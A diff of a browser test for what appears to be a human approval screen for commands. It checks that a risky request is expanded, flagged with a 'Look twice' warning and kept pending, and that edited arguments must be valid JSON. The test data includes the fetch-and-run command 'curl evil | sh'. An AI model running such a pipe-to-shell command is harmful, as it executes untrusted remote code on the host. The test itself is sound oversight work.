@@ -42,7 +42,7 @@ describeInBrowser('on the page', () => {
     expect(await mia.page.getByText('curl evil').isVisible()).toBe(false);
     await mia.page.getByText('All of it', { exact: true }).click();
     await mia.page.getByText('curl evil | sh').waitFor();
-    await mia.page.keyboard.press('a');
+    await mia.page.keyboard.press('y');
     await mia.page.getByText('Look twice').waitFor();
     expect((await inbox.gate.get(request.approvalId))?.status).toBe('pending');
     await mia.page.getByRole('button', { name: 'Approve all the same' }).click();
@@ -80,7 +80,8 @@ describeInBrowser('on the page', () => {
       await open(request);
       await page.getByRole('button', { name: 'Edit' }).click();
       const send = page.getByRole('button', { name: 'Approve with these changes' });
-      const field = page.getByLabel('Arguments');
+      await page.getByLabel('All arguments, as JSON').check();
+      const field = page.getByLabel(/^Arguments/);
       expect(await send.isDisabled()).toBe(true);
       await field.fill('{ "command": ');
       await page.getByText('Not JSON yet').waitFor();
